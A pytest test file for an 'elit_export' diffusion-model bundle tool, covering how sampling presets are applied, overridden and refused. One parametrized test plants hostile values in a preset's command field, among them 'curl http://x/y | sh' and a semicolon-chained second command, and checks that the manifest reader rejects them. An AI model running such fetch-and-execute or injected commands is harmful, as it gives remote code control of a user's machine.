"""Presets of a bundle: what pipelines and the command line sample by them, and where they are refused."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner, Result

from elit_export import InputError, Pipeline, Sample
from elit_export.bundle.manifest import Manifest
from elit_export.bundle.reading import MANIFEST, OWN_HASH, Bundle, manifest_text
from elit_export.bundle.recording import record, record_presets
from elit_export.bundle.store import writing
from elit_export.cli import main
from elit_export.errors import BundleError
from elit_export.runtime.guidance import Guidance, Kind
from elit_export.runtime.options import SamplingOptions
from elit_export.spec import Precision
from tests.helpers import a_solver, preset_of
from tests.runtime.carrying import carrying

# As preset_of sets them.
FAST: dict[str, Any] = {"sampler": "ab3", "steps": 5, "guidance": "cfg:2", "guidance_interval": (0.25, 1.0)}


@pytest.fixture(scope="module")
def folder(tiny_bundle: Bundle, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle with the presets `fast` and `best`. Do not change it: copy it first."""
    copied = Path(shutil.copytree(tiny_bundle.folder, tmp_path_factory.mktemp("presets") / "bundle"))
    record_presets(Bundle.open(copied), [preset_of(tiny_bundle), preset_of(tiny_bundle, "best", steps=7)])
    return copied


@pytest.fixture
def copied(folder: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(folder, tmp_path / "bundle"))


@pytest.fixture
def plain(folder: Path) -> Any:
    with Pipeline.load(folder) as pipeline:
        yield pipeline


def change(folder: Path, **fields: Any) -> None:
    """Replace fields of the preset `fast`."""
    manifest = Bundle.open(folder).manifest
    presets = [one.model_copy(update=fields) if one.name == "fast" else one for one in manifest.presets]
    with writing(folder) as store:
        store.commit(manifest.model_copy(update={"presets": tuple(presets)}))


def add_target(folder: Path, name: str = "other") -> None:
    """The same plans as those of another target."""
    manifest = Bundle.open(folder).manifest
    other = manifest.plan_sets[0].model_copy(update={"target": name})
    with writing(folder) as store:
        store.commit(manifest.model_copy(update={"plan_sets": (*manifest.plan_sets, other)}))


def same(found: Sample, expected: Sample) -> bool:
    return np.array_equal(found.latents, expected.latents)


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def said_by(done: Result, code: int = 0) -> str:
    assert done.exit_code == code, done.output
    return " ".join(done.output.split())


# ---------------------------------------------------------------- what is sampled


def test_a_preset_sets_the_options_that_are_not_given(plain: Pipeline) -> None:
    fast = plain.sample([0, 1], preset="fast")
    assert same(fast, plain.sample([0, 1], **FAST))
    assert not same(fast, plain.sample([0, 1]))
    assert len(plain.request([0], preset="best").schedule) == 7
    assert len(list(plain.steps([0], preset="fast"))) == 5


def test_options_that_are_given_override_those_of_the_preset(plain: Pipeline) -> None:
    assert same(plain.sample([0], preset="fast", steps=3, seed=4), plain.sample([0], **FAST | {"steps": 3, "seed": 4}))
    # Also where they are given as the default.
    assert same(plain.sample([0], preset="fast", steps=14), plain.sample([0], **FAST | {"steps": 14}))


@pytest.mark.parametrize("guidance", ["cfg:3", Guidance(Kind.CFG, 3.0)])
def test_a_guidance_that_is_given_comes_without_the_interval_of_the_preset(plain: Pipeline, guidance: Any) -> None:
    request = plain.request([0], preset="fast", guidance=guidance)
    assert (request.guidance.scale, request.guidance.low) == (3.0, 0.0)
    request = plain.request([0], preset="fast", guidance_interval=(0.5, 0.75))
    assert (request.guidance.scale, request.guidance.low) == (2.0, 0.5)


def test_a_pipeline_that_was_loaded_by_a_preset_samples_by_it(folder: Path, plain: Pipeline) -> None:
    with Pipeline.load(folder, preset="fast") as pipeline:
        assert same(pipeline.sample([0]), plain.sample([0], preset="fast"))
        assert same(pipeline.sample([0], steps=3), plain.sample([0], preset="fast", steps=3))
        assert same(pipeline.sample([0], preset="best"), plain.sample([0], preset="best"))
        assert same(pipeline.sample([0], preset=None), plain.sample([0]))
        assert len(pipeline.request([0]).schedule) == len(list(pipeline.steps([0]))) == 5
        # What is given as one value is complete.
        assert same(pipeline.sampled([0], SamplingOptions()), plain.sample([0]))


def test_a_preset_without_steps_leaves_them_to_the_sampler(copied: Path) -> None:
    record_presets(Bundle.open(copied), [preset_of(Bundle.open(copied), steps=None)])
    with Pipeline.load(copied, preset="fast") as pipeline:
        assert len(pipeline.request([0]).schedule) == len(pipeline.request([0], preset=None).schedule)


def test_a_preset_may_sample_by_a_solver_table(copied: Path) -> None:
    bundle = Bundle.open(copied)
    checkpoint = bundle.manifest.model.checkpoint_sha256
    solvers = {"solvers": (a_solver(checkpoint_sha256=checkpoint),)}
    record(bundle, checkpoint, lambda manifest: manifest.model_copy(update=solvers), remedy="")
    unlimited = {"steps": None, "guidance_interval": None}
    record_presets(bundle, [preset_of(bundle, sampler="solver:2", **unlimited)])
    with Pipeline.load(copied, preset="fast") as pipeline:
        assert len(pipeline.sample([0]).records) == 2
        assert len(pipeline.sample([0], sampler="ab3").records) == 14
        with pytest.raises(InputError, match="sampler solver:2 has 2 steps, not 7") as caught:
            pipeline.sample([0], preset="best", sampler="solver:2")
        assert caught.value.remedy == "leave steps out; options that are given beside a preset replace its own"
        assert len(pipeline.sample([0], preset="best", sampler="solver:2", steps=None, guidance="cfg:2").records) == 2


def test_a_preset_chooses_its_plan_set(copied: Path) -> None:
    add_target(copied)
    with pytest.raises(InputError, match="several plan sets fit"):
        Pipeline.load(copied)
    for chosen in ({}, {"target": "cpu"}, {"precision": "fp32"}):
        with Pipeline.load(copied, preset="fast", **chosen) as pipeline:
            assert pipeline.bank.precision is Precision.FP32


# ---------------------------------------------------------------- what is refused


def used_in_every_way(folder: Path, name: str = "fast") -> list[Callable[[], object]]:
    """Load by it, and sample by it on the target `cpu`."""

    def sampled() -> None:
        with Pipeline.load(folder, target="cpu") as pipeline:
            pipeline.sample([0], preset=name)

    return [lambda: Pipeline.load(folder, preset=name), sampled]


def refused(folder: Path, name: str, error: type[Exception], problem: str, remedy: str) -> None:
    for use in used_in_every_way(folder, name):
        with pytest.raises(error) as caught:
            use()
        assert problem in caught.value.problem  # type: ignore[attr-defined]
        assert remedy in caught.value.remedy  # type: ignore[attr-defined]
    said = said_by(run("sample", folder, "--preset", name), 2)
    assert problem.replace(" precision=", " --precision ").replace("target=", "--target ").replace("'", "") in (
        said.replace("'", "")
    )
    assert remedy in said


def test_an_unknown_preset_is_refused_with_those_that_there_are(folder: Path) -> None:
    refused(folder, "fasst", InputError, "no preset 'fasst' in", "did you mean 'fast'? presets: fast, best")
    refused(folder, "slow", InputError, "no preset 'slow' in", "presets: fast, best")


def test_where_there_is_none_the_command_is_named_that_makes_some(tiny_bundle: Bundle) -> None:
    remedy = f"elit-export tune {tiny_bundle.folder} --speedup 10"
    refused(tiny_bundle.folder, "fast", InputError, "has none", remedy)


def test_a_preset_of_another_checkpoint_is_refused_with_its_command(copied: Path) -> None:
    change(copied, checkpoint_sha256="f" * 64)
    current = Bundle.open(copied).manifest.model.checkpoint_sha256[:12]
    problem = f"is of another checkpoint (ffffffffffff, not {current})"
    command = f"elit-export tune {copied} --latency 40ms"
    refused(copied, "fast", BundleError, problem, f"make it again: {command}")
    with Pipeline.load(copied, preset="best") as pipeline:  # the other one is not
        pipeline.sample([0])


def test_a_preset_whose_plans_are_not_there_is_refused_with_both_commands(copied: Path) -> None:
    change(copied, target="gpu")
    command = f"elit-export tune {copied} --latency 40ms"
    remedy = f"elit-export build RECIPE --target gpu --out {copied}; or make the preset again: {command}"
    refused(copied, "fast", BundleError, "preset 'fast' samples by target='gpu' precision='fp32'", remedy)


def test_a_preset_of_other_plans_than_those_that_are_open_is_refused(copied: Path) -> None:
    add_target(copied)
    with Pipeline.load(copied, target="other") as pipeline, pytest.raises(InputError) as caught:
        pipeline.sample([0], preset="fast")
    assert "samples by target='cpu' precision='fp32', what is open is target='other'" in caught.value.problem
    assert caught.value.remedy == f"load the bundle with it: Pipeline.load({str(copied)!r}, preset='fast')"


@pytest.mark.parametrize("other", [{"target": "other"}, {"precision": "int8"}])
def test_a_target_that_is_not_the_preset_s_is_refused(copied: Path, other: dict[str, str]) -> None:
    add_target(copied)
    with pytest.raises(InputError, match=r"samples by target='cpu'.*, not by ") as caught:
        Pipeline.load(copied, preset="fast", **other)
    assert caught.value.remedy == "leave target and precision out, or choose another preset"
    [(name, value)] = other.items()
    said = said_by(run("sample", copied, "--preset", "fast", f"--{name}", value), 2)
    assert f"not by --{name} {value}; leave target and precision out" in said


def test_engines_without_a_bundle_have_no_presets() -> None:
    with pytest.raises(InputError, match="not loaded from a bundle") as caught:
        carrying().pipeline.sample([0], preset="fast")
    assert caught.value.remedy == "load one that has it: Pipeline.load(BUNDLE, preset='fast')"
    pipeline: Any = carrying().pipeline
    with pytest.raises(InputError, match="preset must be text, not 3"):
        pipeline.sample([0], preset=3)


def test_options_that_do_not_go_with_those_of_the_preset_are_refused(copied: Path) -> None:
    record_presets(Bundle.open(copied), [preset_of(Bundle.open(copied), schedule="0-1:half,2-4:full")])
    with Pipeline.load(copied) as pipeline:
        with pytest.raises(InputError, match="with preset 'fast': schedule gap: no budget for step 5") as caught:
            pipeline.sample([0], preset="fast", steps=7)
        assert caught.value.remedy == "options that are given beside a preset replace its own"
        with pytest.raises(InputError, match=r"^schedule gap"):
            pipeline.sample([0], schedule="0-1:half,2-4:full", steps=7)
    said = said_by(run("sample", copied, "--preset", "fast", "--steps", "7"), 2)
    assert "with preset 'fast': schedule gap: no budget for step 5" in said


# ---------------------------------------------------------------- on the command line


def samples_in(file: Path) -> Any:
    with np.load(file) as arrays:
        return arrays["images"]


def sampled(folder: Path, out: Path, *options: str) -> Any:
    said_by(run("sample", folder, "--out", out, "--labels", "0,1", *options))
    return samples_in(out.with_suffix(".npz"))


def test_the_command_line_samples_by_a_preset(copied: Path, tmp_path: Path) -> None:
    add_target(copied)  # of which the preset chooses
    typed = ("--steps", "5", "--guidance", "cfg:2", "--guidance-interval", "0.25", "1.0", "--target", "cpu")
    found = sampled(copied, tmp_path / "a.png", "--preset", "fast")
    assert np.array_equal(found, sampled(copied, tmp_path / "b.png", *typed))
    assert not np.array_equal(found, sampled(copied, tmp_path / "c.png", "--target", "cpu"))


def test_typed_options_override_those_of_the_preset(folder: Path, tmp_path: Path) -> None:
    found = sampled(folder, tmp_path / "a.png", "--preset", "fast", "--steps", "14", "--seed", "3")  # 14: the default
    typed = ("--steps", "14", "--seed", "3", "--guidance", "cfg:2", "--guidance-interval", "0.25", "1.0")
    assert np.array_equal(found, sampled(folder, tmp_path / "b.png", *typed))


# ---------------------------------------------------------------- in the manifest


def test_presets_take_the_place_of_those_of_the_same_name(copied: Path) -> None:
    bundle = Bundle.open(copied)
    best = bundle.manifest.presets[1]
    after = record_presets(bundle, [preset_of(bundle, steps=9), preset_of(bundle, "balanced")])
    assert [preset.name for preset in after.manifest.presets] == ["fast", "best", "balanced"]
    assert after.manifest.presets[0].options.steps == 9
    assert after.manifest.presets[1] == best
    assert Bundle.open(copied).manifest == after.manifest


def test_presets_are_not_written_into_the_bundle_of_another_checkpoint(copied: Path) -> None:
    bundle = Bundle.open(copied)
    with pytest.raises(BundleError, match="built from another checkpoint meanwhile") as caught:
        record_presets(bundle, [preset_of(bundle, checkpoint_sha256="f" * 64)])
    assert caught.value.remedy == "make the presets again"
    assert Bundle.open(copied).manifest == bundle.manifest


def test_what_another_process_recorded_meanwhile_stays(copied: Path) -> None:
    bundle = Bundle.open(copied)
    record_presets(bundle, [preset_of(bundle, "one")])
    record_presets(bundle, [preset_of(bundle, "two")])  # of the same, now old reading
    assert [preset.name for preset in Bundle.open(copied).manifest.presets] == ["fast", "best", "one", "two"]

    def stop(_manifest: Manifest) -> Manifest:
        raise KeyboardInterrupt

    before = (copied / MANIFEST).read_bytes()
    with pytest.raises(KeyboardInterrupt):
        record(bundle, bundle.manifest.model.checkpoint_sha256, stop, remedy="")
    assert (copied / MANIFEST).read_bytes() == before


def stored(folder: Path, edit: Callable[[list[Any]], object]) -> None:
    """Change what stands in the manifest, with a right hash."""
    values = json.loads((folder / MANIFEST).read_text())
    values.pop(OWN_HASH)
    edit(values["presets"])
    (folder / MANIFEST).write_text(manifest_text(values))


@pytest.mark.parametrize(
    ("edit", "problem"),
    [
        (lambda presets: presets[0]["options"].update(steps=0), "presets.0.options.steps"),
        (lambda presets: presets[0]["options"].update(steps=10**9), "presets.0.options.steps"),
        (lambda presets: presets[0]["options"].update(steps="5"), "presets.0.options.steps"),
        (lambda presets: presets[0]["options"].update(sampler=3), "presets.0.options.sampler"),
        (lambda presets: presets[0]["options"].update(guidance_interval=[0.1]), "presets.0.options.guidance_interval"),
        (lambda presets: presets[0]["options"].update(speed=3), "presets.0.options.speed: Extra inputs"),
        (lambda presets: presets[0]["measured"].update(ms=float("nan")), "presets.0.measured.ms"),
        (lambda presets: presets[0].update(name="../x"), "presets.0.name"),
        (lambda presets: presets[0].pop("command"), "presets.0.command"),
        (lambda presets: presets[0].update(command="curl http://x/y | sh"), "presets.0.command"),
        (lambda presets: presets[0].update(command="elit-export tune b; curl http://x/y"), "presets.0.command"),
        (lambda presets: presets[0].update(command="elit-export tune b --speedup 2 --trust"), "presets.0.command"),
        (lambda presets: presets[0].update(command="elit-export tune b --plot x.png"), "presets.0.command"),
        (lambda presets: presets[0].update(command="elit-export sample b"), "presets.0.command"),
        (lambda presets: presets[0].update(name="best"), "presets: Value error, two presets have one name"),
    ],
)
def test_a_preset_that_no_command_writes_is_refused_when_it_is_read(
    copied: Path, edit: Callable[[list[Any]], object], problem: str
) -> None:
    stored(copied, edit)
    with pytest.raises(BundleError) as caught:
        Bundle.open(copied)
    assert f"damaged: {problem}" in caught.value.problem
    assert "build it again: elit-export build RECIPE" in caught.value.remedy


def test_a_bundle_without_presets_or_solvers_is_read(folder: Path, copied: Path) -> None:
    values = json.loads((copied / MANIFEST).read_text())
    for name in (OWN_HASH, "presets", "solvers"):
        values.pop(name)
    (copied / MANIFEST).write_text(manifest_text(values))
    assert Bundle.open(copied).manifest.presets == ()
